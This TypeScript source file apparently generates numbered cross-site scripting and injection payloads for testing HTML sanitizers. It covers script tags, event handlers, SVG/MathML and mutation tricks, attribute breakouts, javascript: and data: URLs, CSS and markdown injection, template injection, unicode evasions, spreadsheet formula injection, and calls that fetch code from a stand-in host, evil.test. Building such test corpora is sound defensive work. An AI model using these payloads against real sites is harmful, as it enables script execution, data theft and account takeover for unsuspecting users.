/** What an attacker's text does where it runs: tells the page's hook, a dialog, or a host of its own. */
const deeds: readonly ((at: number) => string)[] = [
  (at) => `fired(${at})`,
  (at) => `alert(${at})`,
  (at) => `self['fi'+'red'](${at})`,
  (at) => `fetch('https://evil.test/${at}')`,
  (at) => `top.fired(${at})`,
  (at) => `import('https://evil.test/${at}.js')`,
  (at) => `f\\u0069red(${at})`,
  (at) => `location='https://evil.test/${at}'`,
];

/** A text around a deed; `at` names the payload in addresses, where no deed is needed. */
type Shape = (deed: string, at: number) => string;

const twist = (deed: string): string => deed.replaceAll("'", "&#39;").replaceAll("(", "&lpar;");
const base64 = (text: string): string => Buffer.from(text).toString("base64");

const scripts: readonly Shape[] = [
  (deed) => `<script>${deed}</script>`,
  (deed) => `<ScRiPt >${deed}</sCrIpT >`,
  (_, at) => `<script src=https://evil.test/${at}.js></script>`,
  (_, at) => `<script src=//evil.test/${at}.js></script>`,
  (deed) => `<script type=module>${deed}</script>`,
  (deed) => `<scr<script>ipt>${deed}</scr</script>ipt>`,
  (deed) => `<script\n>${deed}//</script`,
  (_, at) => `<script type=importmap>{"imports":{"react":"https://evil.test/${at}.js"}}</script>`,
];

/** Runs by itself as soon as it stands in a page. */
const handlers: readonly Shape[] = [
  (deed) => `<img src=x onerror="${deed}">`,
  (deed) => `<img/src=x/onerror=${twist(deed)}>`,
  (deed) => `<IMG SRC=x OnErRoR='${deed.replaceAll("'", "`")}'>`,
  (deed) => `<svg onload="${deed}">`,
  (deed) => `<svg/onload=${twist(deed)}//`,
  (deed) => `<body onload="${deed}">`,
  (deed) => `<details open ontoggle="${deed}">x`,
  (deed) => `<input autofocus onfocus="${deed}">`,
  (deed) => `<video><source onerror="${deed}"></video>`,
  (deed) => `<audio src=x onerror="${deed}">`,
  (deed) => `<iframe onload="${deed}"></iframe>`,
  (deed) => `<object data=x onerror="${deed}">`,
  (deed) => `<style onload="${deed}"></style>`,
  (deed) => `<b style="animation:x 1s" onanimationstart="${deed}">x</b>`,
  (deed) => `<p onpointerover="${deed}">over</p>`,
  (deed) => `<a onclick="${deed}">press</a>`,
  (deed) => `<x contenteditable onblur="${deed}" tabindex=1>x`,
  (deed) => `<form onsubmit="${deed}"><button>go`,
];

const foreign: readonly Shape[] = [
  (deed) => `<svg><script>${deed}</script></svg>`,
  (deed) => `<svg><animate onbegin="${deed}" attributeName=x dur=1s>`,
  (deed) => `<svg><a><animate attributeName=href values="javascript:${twist(deed)}"/><text y=9>x</text></a></svg>`,
  (deed) => `<svg><foreignObject><img src=x onerror="${deed}"></foreignObject></svg>`,
  (_, at) => `<svg><use href="https://evil.test/${at}.svg#x"/></svg>`,
  (deed) =>
    `<svg><use href="data:image/svg+xml;base64,${base64(`<svg id="x" onload="${deed}"/>`).slice(0, 60)}#x"/></svg>`,
  (deed) => `<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="${deed}"/>`,
  (deed) => `<math><mtext href="javascript:${twist(deed)}">x</mtext></math>`,
  (deed) => `<math><maction actiontype="statusline#x" xlink:href="javascript:${twist(deed)}">x`,
  (deed) => `<math><annotation-xml encoding="text/html"><img src=x onerror="${deed}">`,
];

/** Harmless when read once, and not when what was read is written and read again. */
const twiceRead: readonly Shape[] = [
  (deed) => `<noscript><p title="</noscript><img src=x onerror=${twist(deed)}>">`,
  (deed) => `<svg></p><style><a id="</style><img src=1 onerror=${twist(deed)}>">`,
  (deed) =>
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${twist(deed)}&gt;">`,
  (deed) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${twist(deed)}>`,
  (deed) => `<template><img src=x onerror="${deed}"></template>`,
  (deed) => `<!--><img src=x onerror="${deed}">-->`,
  (deed) => `<!--x--!><img src=x onerror="${deed}">`,
  (deed) => `<![CDATA[><img src=x onerror="${deed}">]]>`,
  (deed) => `<xmp><p title="</xmp><img src=x onerror=${twist(deed)}>">`,
  (deed) => `&lt;img src=x onerror=${twist(deed)}&gt;`,
  (deed) => `&amp;lt;script&amp;gt;${deed}&amp;lt;/script&amp;gt;`,
  (deed) => `%3Cscript%3E${encodeURIComponent(deed)}%3C/script%3E`,
  (deed) => `%253Csvg%2520onload%253D${encodeURIComponent(encodeURIComponent(deed))}%253E`,
  (deed) => `\\u003cimg src=x onerror=${twist(deed)}\\u003e`,
];

/** Ways out of where a text may stand: attributes, titles, script and style elements, JSON, comments. */
const breakouts: readonly Shape[] = [
  (deed) => `"><img src=x onerror="${deed}">`,
  (deed) => `'><svg onload='${deed.replaceAll("'", "`")}'>`,
  (deed) => `" autofocus onfocus="${deed}" x="`,
  (deed) => `' onmouseover='${deed.replaceAll("'", "`")}' x='`,
  (deed) => `</title><script>${deed}</script>`,
  (deed) => `</textarea><script>${deed}</script>`,
  (deed) => `</script><script>${deed}</script>`,
  (deed) => `</style><img src=x onerror="${deed}">`,
  (deed) => `</option></select><img src=x onerror="${deed}">`,
  (deed) => `--><script>${deed}</script><!--`,
  (deed) => `"}</script><svg onload="${deed}">{"`,
  (deed) => `';${deed};//`,
  (deed) => `";${deed};//`,
  (deed) => `\\";${deed};//`,
  (deed) => `</p></td></li></div><script>${deed}</script>`,
];

const addresses: readonly Shape[] = [
  (deed) => `javascript:${deed}`,
  (deed) => `JaVaScRiPt:${deed}`,
  (deed) => `java\tscript:${deed}`,
  (deed) => `java\nscript:${deed}`,
  (deed) => ` \u0001javascript:${deed}`,
  (deed) => `javascript://https://good.test/%0a${deed}`,
  (deed) => `&#106;avascript&colon;${twist(deed)}`,
  (deed) => `vbscript:msgbox("${deed}")`,
  (deed) => `data:text/html,<script>${deed}</script>`,
  (deed) => `data:text/html;base64,${base64(`<script>${deed}</script>`)}`,
  (deed) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload="${deed}"/>`,
  (_, at) => `//evil.test/${at}`,
  (_, at) => `\\\\evil.test\\${at}`,
  (_, at) => `https://good.test@evil.test/${at}"onmouseover=fired(${at})`,
  (deed, at) => `https://evil.test/${at}'><img src=x onerror="${deed}">`,
  (deed) => `blob:javascript:${deed}`,
  (deed) => `<a href="javascript:${twist(deed)}">press</a>`,
];

const elements: readonly Shape[] = [
  (_, at) => `<iframe src=https://evil.test/${at}></iframe>`,
  (deed) => `<iframe srcdoc="<script>parent.${deed.replaceAll('"', "")}</script>"></iframe>`,
  (deed) => `<object data="data:text/html,<script>${deed}</script>"></object>`,
  (_, at) => `<embed src=https://evil.test/${at}>`,
  (_, at) => `<base href=https://evil.test/${at}/>`,
  (_, at) => `<meta http-equiv=refresh content="0;url=https://evil.test/${at}">`,
  (_, at) => `<link rel=stylesheet href=https://evil.test/${at}.css>`,
  (_, at) => `<link rel=prefetch href=https://evil.test/${at}>`,
  (_, at) => `<img src=https://evil.test/${at}.gif>`,
  (_, at) => `<form action=https://evil.test/${at}><input type=submit autofocus>`,
  (deed) => `<button form=x formaction="javascript:${twist(deed)}">press`,
];

const styles: readonly Shape[] = [
  (_, at) => `<style>@import 'https://evil.test/${at}.css';</style>`,
  (_, at) => `<style>*{background:url(https://evil.test/${at}.gif)}</style>`,
  (_, at) => `x;background:url(https://evil.test/${at}.gif)`,
  (_, at) => `"style="background-image:url(//evil.test/${at}.gif)"`,
  (_, at) => `}*{background:url(https://evil.test/${at}.gif)}`,
  (deed) => `<b style="width:expression(${twist(deed)})">x</b>`,
];

const markdown: readonly Shape[] = [
  (deed) => `[press](javascript:${deed})`,
  (deed) => `[press](<javascript:${deed}>)`,
  (deed) => `[x]: javascript:${deed}\n[x]`,
  (_, at) => `![x](https://evil.test/${at}.gif)`,
  (_, at) => `![x](https://evil.test/${at}.gif"onerror="fired(${at}))`,
  (deed) => `<javascript:${deed}>`,
  (deed) => `\`\`\`html\n</code></pre><img src=x onerror="${deed}">\n\`\`\``,
  (deed) => `[press](data:text/html;base64,${base64(`<script>${deed}</script>`)})`,
];

const templates: readonly Shape[] = [
  (deed) => `{{constructor.constructor("${deed}")()}}`,
  (deed) => `{{$on.constructor('${deed.replaceAll("'", '"')}')()}}`,
  (deed) => `$` + `{${deed}}`,
  (deed) => `<%= ${deed} %>`,
  (deed) => `#{${deed}}`,
  (deed) => `[[$` + `{T(java.lang.Runtime).${deed}}]]`,
  (deed) => `{"dangerouslySetInnerHTML":{"__html":"<img src=x onerror=${twist(deed)}>"}}`,
  (deed) => `{"$$typeof":"Symbol(react.element)","type":"script","props":{"children":"${deed}"}}`,
];

const unicode: readonly Shape[] = [
  (deed) => `\u202e<script>${deed}</script>\u202c`,
  (deed) => `＜script＞${deed}＜/script＞`,
  (deed) => `<\u200bscript>${deed}</script>`,
  (deed) => `\u2028<svg onload="${deed}">\u2029`,
  (deed) => `\ufeff<script>${deed}</script>`,
  (deed) => `+ADw-script+AD4-${deed}+ADw-/script+AD4-`,
  (deed) => `\u1e9e\u0130\u212a<img src=x onerror="${deed}">`,
  (deed) => `jav\u0430script:${deed}`,
  (deed) => `\u2066"\u2069 onfocus=${twist(deed)} autofocus `,
];

const files: readonly Shape[] = [
  (deed) => `"><img src=x onerror=${twist(deed)}>.pdf`,
  (deed) => `../../<svg onload=${twist(deed)}>.svg`,
  (deed) => `a";filename="${twist(deed)}.html`,
  (deed) => `=HYPERLINK("javascript:${deed}","press")`,
  (_, at) => `=IMPORTXML("https://evil.test/${at}","//a")`,
  (_, at) => `+cmd|'/C calc'!A${at}`,
  (_, at) => `@SUM(1+${at})*cmd|'/C calc'!A0`,
  (_, at) => `-2+3+cmd|'/C calc'!A${at}`,
  (_, at) => `\t=1+${at}`,
];

const polyglots: readonly Shape[] = [
  (deed) =>
    `javascript:/*--></title></style></textarea></script></xmp><svg/onload='+/"/+/onmouseover=1/+/[*/[]/+${twist(deed)}//'>`,
  (deed) =>
    `'">><marquee><img src=x onerror=${twist(deed)}></marquee>"></plaintext\\></|\\><plaintext/onmouseover=${twist(deed)}>`,
  (deed) => `\`"'></script><svg><animate onbegin=${twist(deed)} attributeName=x>{{7*7}}`,
  (deed) => `/*</style></script>*/<img src=x onerror=${twist(deed)}><!--`,
];

const kinds = {
  scripts,
  handlers,
  foreign,
  twiceRead,
  breakouts,
  addresses,
  elements,
  styles,
  markdown,
  templates,
  unicode,
  files,
  polyglots,
};

export interface Payload {
  at: number;
  kind: string;
  text: string;
}

/** So many payloads, kind after kind in turn, each shape with another deed from round to round. */
export function payloads(count: number): Payload[] {
  const turns = interleaved(
    Object.entries(kinds).map(([kind, shapes]) => shapes.map((shape, index) => ({ kind, shape, index }))),
  );
  return Array.from({ length: count }, (_, at) => {
    const round = Math.floor(at / turns.length);
    const turn = turns[at % turns.length];
    const deed = turn && deeds[(turn.index + round * 3) % deeds.length];
    if (turn === undefined || deed === undefined) throw new Error("There are no payloads.");
    return { at, kind: turn.kind, text: turn.shape(deed(at), at) };
  });
}

export const shapeCount = Object.values(kinds).reduce((sum, shapes) => sum + shapes.length, 0);

function interleaved<T>(lists: readonly (readonly T[])[]): T[] {
  const longest = Math.max(...lists.map(({ length }) => length));
  return Array.from({ length: longest }, (_, at) => lists.flatMap((list) => list.slice(at, at + 1))).flat();
}
